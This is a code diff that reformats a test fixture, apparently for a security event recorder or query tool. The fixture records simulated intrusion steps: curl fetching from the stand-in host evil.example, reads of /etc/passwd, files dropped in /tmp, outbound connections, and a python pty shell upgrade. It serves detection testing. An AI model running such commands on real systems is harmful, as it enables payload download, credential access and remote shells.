@@ -129,15 +129,15 @@ QueryScenario::QueryScenario(const QString &dir, const QString &suffix)
     sshd.exe = QByteArray("/usr/sbin/sshd");
     sshd.argv = {"sshd: root@pts/0"};
 
-    archives << alpha.next({recStart(0), exec(200, 100, u"bash"_s, {"/bin/bash"}),
-                            exec(300, 200, u"curl"_s, {"/usr/bin/curl", "http://evil.example/x"}),
-                            exec(301, 200, hostileComm(), hostileArgv()),
-                            file(40, 300, FileOp::Open, "/etc/passwd"), file(50, 300, FileOp::Write, "/tmp/drop/a.sh"),
-                            file(60, 301, FileOp::Create, "/tmp/drop/b.bin"),
-                            file(70, 301, FileOp::Create, hostilePath()),
-                            connect(80, 300, u"10.0.0.2"_s, u"203.0.113.5"_s, 443), event(90, change), exit(100, 300),
-                            event(110, loss), event(120, RecorderStop{u"shutdown"_s})});
-    archives << alpha.next({recStart(1000), event(1000, sshd), exec(400, 200, u"python3"_s, {"/usr/bin/python3", "-c", "import pty"}),
+    archives << alpha.next(
+        {recStart(0), exec(200, 100, u"bash"_s, {"/bin/bash"}),
+         exec(300, 200, u"curl"_s, {"/usr/bin/curl", "http://evil.example/x"}),
+         exec(301, 200, hostileComm(), hostileArgv()), file(40, 300, FileOp::Open, "/etc/passwd"),
+         file(50, 300, FileOp::Write, "/tmp/drop/a.sh"), file(60, 301, FileOp::Create, "/tmp/drop/b.bin"),
+         file(70, 301, FileOp::Create, hostilePath()), connect(80, 300, u"10.0.0.2"_s, u"203.0.113.5"_s, 443),
+         event(90, change), exit(100, 300), event(110, loss), event(120, RecorderStop{u"shutdown"_s})});
+    archives << alpha.next({recStart(1000), event(1000, sshd),
+                            exec(400, 200, u"python3"_s, {"/usr/bin/python3", "-c", "import pty"}),
                             connect(1020, 400, u"10.0.0.2"_s, u"198.51.100.7"_s, 22),
                             file(1030, 400, FileOp::Open, "/etc/passwd"), exec(401, 400, u"sh"_s, {"/bin/sh"})});
     alpha.next({recStart(3000)}); // seq 3: written, never imported
